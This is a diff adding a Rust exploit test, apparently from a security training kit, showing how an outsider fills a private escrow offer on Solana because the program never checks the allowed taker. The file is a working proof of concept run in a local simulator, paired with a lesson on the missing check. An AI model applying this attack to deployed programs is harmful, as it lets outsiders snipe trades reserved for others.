@@ -0,0 +1,123 @@
+// Exploit: Private Offer Taken (Taker Allow-List Never Enforced)
+//
+// Vulnerability: TakeOffer reads the offer's allowed_taker but never compares it to the taker.
+// Attack: An outsider fills an offer the maker reserved for a specific counterparty.
+// Result: Private OTC deals can be sniped by anyone watching the chain.
+
+mod utils;
+
+use utils::*;
+
+use litesvm::types::TransactionResult;
+use litesvm_token::{
+    spl_token::state::Account as TokenAccount,
+    get_spl_account,
+};
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    signature::{Keypair, Signer},
+    transaction::Transaction,
+};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use spl_associated_token_account::get_associated_token_address;
+use solana_system_interface::program::ID as SYSTEM_PROGRAM_ID;
+
+struct PrivateOfferTaken;
+
+impl ExploitScenario for PrivateOfferTaken {
+    type State = EscrowScenario;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V002",
+            title: "Private Offer Taken - Taker Allow-List Never Enforced",
+            severity: Severity::High,
+            lesson: "When allowed_taker is set, reject any taker whose key does not match it",
+        }
+    }
+
+    fn setup(&self) -> EscrowScenario {
+        println!("[Scenario] Outsider fills an offer reserved for another taker");
+
+        let mut scenario = setup_escrow_scenario();
+
+        // The maker negotiated this deal with a specific counterparty
+        let partner = Keypair::new();
+        println!("[Setup] Allowed taker: {} (maker's OTC partner)", partner.pubkey());
+        println!("[Setup] Outsider:      {} (not on the allow-list)", scenario.taker.pubkey());
+
+        create_private_offer(
+            &mut scenario.svm,
+            &scenario.proposer,
+            &scenario.mint_a,
+            &scenario.mint_b,
+            &scenario.proposer_ata_a,
+            &scenario.offer_pda,
+            &scenario.vault_ata,
+            scenario.offer_id,
+            &partner.pubkey(),
+            scenario.bump,
+        );
+        println!("[Setup] Private offer created");
+        scenario
+    }
+
+    fn exploit(&self, scenario: &mut EscrowScenario) -> TransactionResult {
+        let proposer_ata_b = get_associated_token_address(&scenario.proposer.pubkey(), &scenario.mint_b);
+
+        // EXPLOIT: The outsider takes the offer instead of the partner
+        println!("\n[Attack] Outsider calls TakeOffer on the private offer...");
+
+        let take_ix = Instruction {
+            program_id: PROGRAM_ID,
+            accounts: vec![
+                AccountMeta::new(scenario.taker.pubkey(), true), // EXPLOIT: not the allowed taker
+                AccountMeta::new(scenario.proposer.pubkey(), false),
+                AccountMeta::new(proposer_ata_b, false),
+                AccountMeta::new_readonly(scenario.mint_b, false),
+                AccountMeta::new_readonly(scenario.mint_a, false),
+                AccountMeta::new(scenario.taker_ata_a, false),
+                AccountMeta::new(scenario.taker_ata_b, false),
+                AccountMeta::new(scenario.offer_pda, false),
+                AccountMeta::new(scenario.vault_ata, false),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+                AccountMeta::new_readonly(SYSTEM_PROGRAM_ID, false),
+                AccountMeta::new_readonly(ASSOCIATED_TOKEN_PROGRAM_ID, false),
+            ],
+            data: build_take_offer_data(),
+        };
+
+        let take_tx = Transaction::new_signed_with_payer(
+            &[take_ix],
+            Some(&scenario.taker.pubkey()),
+            &[&scenario.taker],
+            scenario.svm.latest_blockhash(),
+        );
+
+        scenario.svm.send_transaction(take_tx)
+    }
+
+    fn assert_impact(&self, scenario: &mut EscrowScenario) -> u64 {
+        println!("[VULNERABLE] TakeOffer by outsider succeeded!");
+
+        let outsider_a: TokenAccount = get_spl_account(&scenario.svm, &scenario.taker_ata_a)
+            .expect("Outsider ATA A should exist");
+        assert_eq!(outsider_a.amount, TOKEN_A_OFFER_AMOUNT);
+        println!("[EXPLOIT SUCCESS] Outsider received {} Token A meant for the partner", outsider_a.amount);
+
+        let offer_account = scenario.svm.get_account(&scenario.offer_pda);
+        assert!(
+            offer_account.is_none() || offer_account.unwrap().data.is_empty(),
+            "Offer should be closed after the outsider's take"
+        );
+        println!("[Result] Offer closed, the partner can no longer fill it");
+        println!("[Analysis] A secure program would reject because taker != allowed_taker.");
+
+        outsider_a.amount
+    }
+}
+
+#[test]
+fn test_exploit_private_offer_taken() {
+    run_exploit(&PrivateOfferTaken);
+}